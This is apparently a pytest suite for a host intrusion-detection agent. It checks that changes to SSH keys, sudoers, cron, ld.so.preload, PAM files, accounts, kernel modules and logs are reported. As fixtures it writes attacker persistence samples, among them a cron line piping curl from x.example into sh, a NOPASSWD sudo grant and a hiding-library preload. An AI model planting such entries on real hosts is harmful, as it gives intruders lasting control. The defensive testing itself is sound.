"""Files that intruders like to change: what changed is said, and what only looks so is not."""

import bz2
import gzip
import json
import lzma
import os
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pytest

from hub.agent.watch.accounts import AccountWatcher
from hub.agent.watch.host import Host
from hub.agent.watch.kernel_modules import KernelModuleWatcher
from hub.agent.watch.log_files import LogFileWatcher
from hub.agent.watch.observed import ObservedEvent
from hub.agent.watch.watched_files import file_watchers
from hub.agent.watch.watcher import Memory, Watcher
from hub.detections.events import EventKind

NOW = datetime(2026, 11, 22, 12, 0, tzinfo=UTC)
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ9nF0Xk3xVtQ0l4sC1m2v5m8i9b0y1z2a3b4c5d6e7f eve@laptop"
PASSWD = "root:x:0:0:root:/root:/bin/bash\ndeploy:x:1000:1000::/home/deploy:/bin/bash\n"
GROUP = "root:x:0:\nsudo:x:27:deploy\ndocker:x:999:\n"


class Watched:
    """A host in a folder, and one watcher on it that forgets all but its memory."""

    def __init__(self, root: Path, make: Callable[[Host], Watcher]) -> None:
        self.root = root
        self._watcher = make(Host(root))
        self._memory: Memory | None = None

    def write(self, path: str, text: str) -> Path:
        """Write a file of the host."""
        here = self.root / path.lstrip("/")
        here.parent.mkdir(parents=True, exist_ok=True)
        here.write_text(text)
        return here

    def look(self) -> list[ObservedEvent]:
        """Return what is new."""
        look = self._watcher.look(self._memory, now=NOW)
        self._memory = json.loads(json.dumps(look.memory))
        return list(look.events)


def files_named(name: str) -> Callable[[Host], Watcher]:
    def make(host: Host) -> Watcher:
        watchers = file_watchers(host, integrity=["/etc/hosts", "/etc/pam.d/*"])
        return next(watcher for watcher in watchers if watcher.name == name)

    return make


def test_a_key_that_is_added_is_named_by_its_fingerprint(tmp_path: Path) -> None:
    host = Watched(tmp_path, files_named("keys"))
    host.write("/etc/passwd", PASSWD)
    host.write("/home/deploy/.ssh/authorized_keys", "# mine\n")
    assert host.look() == []
    host.write("/home/deploy/.ssh/authorized_keys", f"# mine\n{KEY}\n")
    (event,) = host.look()
    assert (event.kind, event.user) == (EventKind.AUTHORIZED_KEYS_CHANGED, "deploy")
    assert event.path == "/home/deploy/.ssh/authorized_keys"
    assert event.details["added"].startswith("ssh-ed25519 SHA256:")
    assert event.details["added"].endswith(" eve@laptop")
    assert host.look() == []
    host.write("/root/.ssh/authorized_keys", f'command="/bin/true" {KEY}\n')
    (event,) = host.look()
    assert (event.user, event.details["change"]) == ("root", "created")


def test_a_comment_among_the_keys_is_no_news(tmp_path: Path) -> None:
    host = Watched(tmp_path, files_named("keys"))
    host.write("/etc/passwd", PASSWD)
    host.write("/home/deploy/.ssh/authorized_keys", f"{KEY}\n")
    host.look()
    host.write("/home/deploy/.ssh/authorized_keys", f"# laptop\n{KEY}\n\n")
    assert host.look() == []


def test_touching_a_file_or_writing_the_same_again_is_no_news(tmp_path: Path) -> None:
    host = Watched(tmp_path, files_named("integrity"))
    path = host.write("/etc/hosts", "127.0.0.1 localhost\n")
    host.look()
    os.utime(path)
    host.write("/etc/hosts", "127.0.0.1 localhost\n")
    assert host.look() == []


@pytest.mark.parametrize(
    ("act", "word"),
    [
        (lambda path: path.write_text("10.0.0.1 bank.example\n"), "modified"),
        (lambda path: path.unlink(), "deleted"),
        (lambda path: path.chmod(0o666), "permissions"),
        (lambda path: path.with_name("hosts").rename(path.with_name("hosts.old")), "deleted"),
    ],
)
def test_each_way_to_change_a_watched_file_is_told(
    tmp_path: Path, act: Callable[[Path], object], word: str
) -> None:
    host = Watched(tmp_path, files_named("integrity"))
    path = host.write("/etc/hosts", "127.0.0.1 localhost\n")
    path.chmod(0o644)
    host.look()
    act(path)
    (event,) = host.look()
    assert (event.kind, event.path) == (EventKind.FILE_CHANGED, "/etc/hosts")
    assert event.details["change"] == word


def test_a_file_as_its_package_brought_it_is_marked_so(tmp_path: Path) -> None:
    host = Watched(tmp_path, files_named("integrity"))
    host.write("/etc/pam.d/sshd", "old")
    host.look()
    host.write("/var/lib/dpkg/info/openssh.list", "/.\n/etc\n/etc/pam.d/sshd\n")
    host.write(
        "/var/lib/dpkg/info/openssh.md5sums", "22af645d1859cb5ca6da0c484f1f37ea  etc/pam.d/sshd\n"
    )
    host.write("/etc/pam.d/sshd", "new")
    (event,) = host.look()
    assert event.details["package_verified"] == "yes"
    host.write("/etc/pam.d/sshd", "backdoor")
    (event,) = host.look()
    assert (event.details["package"], event.details["package_verified"]) == ("openssh", "no")


def test_a_cron_job_is_told_with_what_it_runs(tmp_path: Path) -> None:
    host = Watched(tmp_path, files_named("cron"))
    host.write("/etc/crontab", "SHELL=/bin/sh\n")
    host.look()
    host.write("/var/spool/cron/crontabs/www-data", "* * * * * curl http://x.example | sh\n")
    (event,) = host.look()
    assert (event.kind, event.user) == (EventKind.CRON_CHANGED, "www-data")
    assert event.details["added"] == "* * * * * curl http://x.example | sh"


def test_each_one_who_is_granted_sudo_is_named(tmp_path: Path) -> None:
    host = Watched(tmp_path, files_named("sudoers"))
    host.write("/etc/sudoers", "root ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n")
    host.look()
    host.write("/etc/sudoers.d/eve", "# for eve\neve ALL=(ALL) NOPASSWD: ALL\nbob web=/bin/ls\n")
    events = host.look()
    assert [(event.kind, event.user) for event in events] == [
        (EventKind.SUDOERS_CHANGED, "eve"),
        (EventKind.SUDOERS_CHANGED, "bob"),
    ]
    host.write("/etc/sudoers", "# tidy\nroot ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n")
    assert host.look() == []


def test_a_preloaded_library_is_named(tmp_path: Path) -> None:
    host = Watched(tmp_path, files_named("preload"))
    host.look()
    host.write("/etc/ld.so.preload", "/usr/local/lib/libhide.so\n")
    (event,) = host.look()
    assert (event.kind, event.path) == (EventKind.PRELOAD_CHANGED, "/etc/ld.so.preload")
    assert event.details["library"] == "/usr/local/lib/libhide.so"


def accounts(tmp_path: Path) -> Watched:
    host = Watched(tmp_path, AccountWatcher)
    host.write("/etc/passwd", PASSWD)
    host.write("/etc/group", GROUP)
    assert host.look() == []
    return host


def test_new_accounts_and_administrators_are_told(tmp_path: Path) -> None:
    host = accounts(tmp_path)
    host.write("/etc/passwd", f"{PASSWD}eve:x:1001:1001::/home/eve:/bin/bash\n")
    host.write("/etc/group", GROUP.replace("27:deploy", "27:deploy,eve").replace("999:", "999:eve"))
    added, joined = host.look()
    assert (added.kind, added.user, added.details["uid"]) == (EventKind.USER_ADDED, "eve", "1001")
    assert (joined.kind, joined.user) == (EventKind.SUDOERS_CHANGED, "eve")
    assert joined.details["group"] == "sudo"
    host.write("/etc/passwd", PASSWD.replace("deploy:x:1000", "deploy:x:0"))
    (rooted,) = host.look()
    assert (rooted.kind, rooted.user) == (EventKind.SUDOERS_CHANGED, "deploy")


def test_the_account_that_a_package_makes_is_marked_so(tmp_path: Path) -> None:
    host = accounts(tmp_path)
    host.write("/var/lib/dpkg/status", "Package: redis\n")
    service = "redis:x:113:120::/var/lib/redis:/usr/sbin/nologin\n"
    host.write("/etc/passwd", f"{PASSWD}{service}svc:x:114:121::/:/bin/bash\n")
    made, person = host.look()
    assert (made.user, made.details["parent"]) == ("redis", "dpkg")
    assert (person.user, person.details.get("parent")) == ("svc", None)


def test_a_changed_shell_or_a_deleted_account_is_no_new_one(tmp_path: Path) -> None:
    host = accounts(tmp_path)
    host.write("/etc/passwd", PASSWD.replace("/home/deploy:/bin/bash", "/home/deploy:/bin/zsh"))
    assert host.look() == []
    host.write("/etc/passwd", PASSWD.partition("\n")[0] + "\n")
    assert host.look() == []


def test_a_module_from_nowhere_is_told_apart_from_the_kernels_own(tmp_path: Path) -> None:
    host = Watched(tmp_path, lambda host: KernelModuleWatcher(host, release="6.1.0-28-amd64"))
    host.write("/lib/modules/6.1.0-28-amd64/modules.dep", "kernel/fs/xfs/xfs.ko.xz: kernel/a.ko\n"
               "kernel/net/nf_tables-x.ko:\n")  # fmt: skip
    ext4 = "ext4 1 1 - Live 0x0000000000000000\n"
    host.write("/proc/modules", ext4)
    assert host.look() == []
    host.write("/proc/modules", f"{ext4}xfs 1 0 - Live 0x0\ndiamorphine 16384 0 - Live 0x0 (OE)\n")
    xfs, rootkit = host.look()
    assert (xfs.kind, xfs.process) == (EventKind.KERNEL_MODULE_LOADED, "xfs")
    assert xfs.path == "/lib/modules/6.1.0-28-amd64/kernel/fs/xfs/xfs.ko.xz"
    assert xfs.details["in_tree"] == "yes"
    assert (rootkit.process, rootkit.path) == ("diamorphine", None)
    assert rootkit.details == {"in_tree": "no", "signed": "no", "taint": "OE"}
    host.write("/proc/modules", ext4)
    assert host.look() == []
    host.write("/proc/modules", f"{ext4}xfs 1 0 - Live 0x0\n")
    assert host.look() == []


def log_host(tmp_path: Path) -> tuple[Watched, Path]:
    host = Watched(tmp_path, lambda host: LogFileWatcher(["/var/log/syslog"], host))
    path = host.write("/var/log/syslog", "one\ntwo\nthree\n")
    assert host.look() == []
    return host, path


@pytest.mark.parametrize(("kept", "word"), [("", "emptied"), ("one\nthree\n", "shortened")])
def test_a_log_that_lost_lines_is_told_once(tmp_path: Path, kept: str, word: str) -> None:
    host, path = log_host(tmp_path)
    path.write_text(kept)
    (event,) = host.look()
    assert (event.kind, event.path) == (EventKind.LOG_SHRUNK, "/var/log/syslog")
    assert event.details["change"] == word
    assert host.look() == []


def test_a_log_that_was_rotated_lost_nothing(tmp_path: Path) -> None:
    host, path = log_host(tmp_path)
    path.rename(path.with_name("syslog.1"))
    assert host.look() == []
    path.write_text("")
    assert host.look() == []
    path.write_text("four\n")
    assert host.look() == []
    path.with_name("syslog.2").write_text("four\n")  # copied, then emptied
    path.write_text("")
    assert host.look() == []


def packed_by(pack: Callable[[bytes], bytes], name: str) -> Callable[[Path], None]:
    def rotate(path: Path) -> None:
        path.with_name(name).write_bytes(pack(path.read_bytes()))
        path.write_text("")

    return rotate


def renamed_twice(path: Path) -> None:
    path.rename(path.with_name("syslog.2"))
    path.with_name("syslog.1").write_text("between\n")
    path.write_text("")


def dated(path: Path) -> None:
    path.rename(path.with_name("syslog-20261122"))
    path.write_text("")


@pytest.mark.parametrize(
    "rotate",
    [
        packed_by(gzip.compress, "syslog.1.gz"),
        packed_by(bz2.compress, "syslog.1.bz2"),
        packed_by(lzma.compress, "syslog-20261122.xz"),
        packed_by(lambda content: content, "syslog.1"),
        packed_by(lambda content: content + b"four\n", "syslog-20261122"),
        packed_by(lambda _: b"(\xb5/\xfd...", "syslog.1.zst"),  # nothing we could unpack
        renamed_twice,
        dated,
    ],
)
def test_whatever_rotation_does_is_no_loss(tmp_path: Path, rotate: Callable[[Path], None]) -> None:
    host, path = log_host(tmp_path)
    path.with_name("syslog.7").write_text("old\n")
    assert host.look() == []
    path.with_name("syslog.7").rename(path.with_name("syslog.8"))
    rotate(path)
    assert host.look() == []


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("syslog.9", b""),
        ("syslog.1", b""),
        ("syslog.1", b"some\nother lines, and more of them\n"),
        ("syslog.1", b"one\ntwo\n"),  # a copy without the last line
        ("syslog-20261122", b"x"),
        ("syslog.1.gz", b""),
        ("syslog.1.gz", b"not packed at all"),
        ("syslog.1.gz", gzip.compress(b"some\nother lines, and more of them\n")),
        ("syslog.1.zst", b""),
    ],
)
def test_a_file_beside_it_does_not_hide_that_a_log_was_emptied(
    tmp_path: Path, name: str, content: bytes
) -> None:
    host, path = log_host(tmp_path)
    path.with_name(name).write_bytes(content)
    path.write_text("")
    assert [event.details["change"] for event in host.look()] == ["emptied"]


def test_a_log_that_goes_on_with_fewer_lines_is_told_although_its_like_lies_beside(
    tmp_path: Path,
) -> None:
    host, path = log_host(tmp_path)
    lines = [f"line {number}\n" for number in range(100)]
    path.write_text("".join(lines))
    host.look()
    path.with_name("syslog.1").write_text("".join(lines))
    path.write_text("".join(lines[:80]))
    assert [event.details["change"] for event in host.look()] == ["shortened"]


def test_a_log_that_is_gone_for_good_is_told(tmp_path: Path) -> None:
    host, path = log_host(tmp_path)
    path.unlink()
    events = [host.look() for _ in range(6)]
    assert [event.details["change"] for found in events for event in found] == ["deleted"]
